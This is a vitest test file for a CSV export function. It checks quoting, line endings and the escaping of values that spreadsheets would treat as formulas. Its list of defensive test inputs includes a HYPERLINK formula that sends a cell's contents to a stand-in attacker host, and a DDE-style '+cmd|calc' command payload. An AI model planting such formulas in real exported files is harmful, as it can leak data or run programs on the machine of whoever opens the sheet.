import { expect, test } from 'vitest'
import { csv } from './csv.ts'

const line = (...cells: Parameters<typeof csv>[0][number]) => csv([cells]).slice(1, -2)

test('a table begins with a byte order mark and its lines end as the standard has it', () => {
  expect(
    csv([
      ['a', 'b'],
      [1, true],
    ]),
  ).toBe('\uFEFFa,b\r\n1,true\r\n')
})

test('what would break a line or a column is quoted', () => {
  expect(line('a,b', 'say "hi"', 'one\ntwo', ' space')).toBe('"a,b","say ""hi""","one\ntwo"," space"')
})

test.each([
  '=HYPERLINK("https://evil.example?"&A1)',
  '+1+cmd|calc',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1',
  '＋1',
  '－1',
  '＠x',
])('%j is a text, not a formula', (text) => {
  expect(line(text).replace(/^"/, '')).toMatch(/^'/)
})

test('numbers stay numbers', () => {
  expect(line(-33.86, 0, 'Łódź')).toBe('-33.86,0,Łódź')
})
